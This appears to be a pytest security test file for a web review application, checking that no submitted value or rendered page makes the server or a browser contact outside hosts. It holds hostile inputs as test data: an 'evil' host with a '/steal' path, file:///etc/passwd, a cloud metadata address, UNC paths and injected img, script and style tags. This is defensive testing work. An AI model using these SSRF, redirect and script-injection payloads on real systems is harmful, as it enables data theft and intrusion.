"""Nothing that is sent makes the bench, or a browser on it, ask anybody else."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from taktsight.inspect.review.people.roles import Role
from taktsight.inspect.review.store.values import Choice
from taktsight.inspect.review.web.routes import Open, Page

from ..running_bench import token
from ..served_records import Served, path_of
from . import no_way_out
from .attacked_routes import ENDS_SESSION, EVIL, GETS, POSTS, Addresses, attacked, said

OUTSIDE = f"http://{EVIL}:8099/steal"


def test_block_blocks(way_out: Path, served: Served) -> None:
    """Without it the tests of what goes out would show nothing."""
    assert served.running.process.poll() is None
    environment = os.environ | {
        "PYTHONPATH": str(way_out),
        "NO_WAY_OUT": str(way_out / "tried-by-itself"),
    }
    asked = f"import urllib.request; urllib.request.urlopen({OUTSIDE!r})"
    ended = subprocess.run(
        [sys.executable, "-c", asked], env=environment, capture_output=True, text=True, check=False
    )
    assert "lets nothing out" in ended.stderr
    assert (way_out / "tried-by-itself").read_text()


def test_nothing_goes_out_whatever_is_sent(served: Served, way_out: Path) -> None:
    """Every field of every form, every value after ``?``, and every header that a proxy would read."""
    addresses = (
        OUTSIDE,
        f"//{EVIL}/x",
        "file:///etc/passwd",
        f"\\\\{EVIL}\\share",
        "http://169.254.169.254/",
    )
    for role, outside_ones in (("engineer", addresses[:3]), ("admin", addresses[3:])):
        client = served.people[role]
        csrf, fields = token(client, "/help"), set()
        for page in GETS:
            answer = client.get(attacked(served, page), timeout=120)
            if answer.headers.get("content-type", "").startswith("text/html"):
                fields |= Addresses(answer.text).fields
        fields -= {"csrf"}
        for outside in outside_ones:
            asked = dict.fromkeys(sorted(fields | {"next", "url", "file", "path", "image"}), outside)
            for page in GETS:
                answer = client.get(attacked(served, page), params=asked, timeout=120)
                assert answer.status_code < 500 or answer.status_code == 501, said(page)
                assert not answer.headers.get("location", "/").startswith(("http", "//", "\\"))
            for page in POSTS:
                if page.path == ENDS_SESSION:
                    continue
                answer = client.post(attacked(served, page), data=asked | {"csrf": csrf}, timeout=120)
                assert answer.status_code < 500, said(page)
                assert not answer.headers.get("location", "/").startswith(("http", "//", "\\"))
    assert no_way_out.tried(way_out) == []


def test_paper_of_an_evil_record_fetches_nothing(served: Served, way_out: Path) -> None:
    part = served.made.parts[7]
    note = f"<img src='{OUTSIDE}'><link rel=stylesheet href={OUTSIDE}><style>@import url({OUTSIDE})</style>"
    served.decide("supervisor", part, Choice.CONFIRM, note=f"{note}<script src={OUTSIDE}></script>")
    auditor = served.people["auditor"]
    answer = auditor.get(f"{path_of(part)}/export.pdf", timeout=120)
    assert answer.status_code in (200, 501)
    page = auditor.get(path_of(part)).text
    assert "&lt;img src=" in page
    assert not [found for found in Addresses(page).found if EVIL in found]
    assert no_way_out.tried(way_out) == []


def html_pages(served: Served, client: httpx.Client) -> Iterator[tuple[Page, str]]:
    for page in GETS:
        answer = client.get(attacked(served, page), timeout=120)
        if answer.headers.get("content-type", "").startswith("text/html"):
            yield page, answer.text


def test_no_page_names_anything_outside(served: Served) -> None:
    for role in (Role.REVIEWER, Role.ENGINEER, Role.ADMIN):
        for page, content in html_pages(served, served.people[role.value]):
            found = Addresses(content)
            outside = [each for each in found.found if not re.match(r"/(?!/)|#|\?|$", each)]
            assert outside == [], said(page)
            assert found.scripts == [], (said(page), "inline script or style")


def test_browser_asks_nobody_else(served: Served, way_out: Path) -> None:
    pytest.importorskip("playwright")
    from ..chromium import CHROMIUM, chromium

    if CHROMIUM is None:
        pytest.skip("no Chromium: tests/peers/install.sh installs it")
    asked: list[str] = []
    errors: list[str] = []
    with chromium() as browser:
        context = browser.new_context()
        context.add_cookies([served.cookie("admin")])  # type: ignore[list-item]
        tab = context.new_page()
        tab.on("request", lambda request: asked.append(request.url))
        tab.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
        for page, _ in html_pages(served, served.people["admin"]):
            if page.needs is not Open.ANYONE:
                tab.goto(served.url + attacked(served, page), wait_until="load")
    assert [url for url in asked if not url.startswith((f"{served.url}/", "data:", "blob:"))] == []
    assert [error for error in errors if "Content Security Policy" in error] == []
    assert no_way_out.tried(way_out) == []
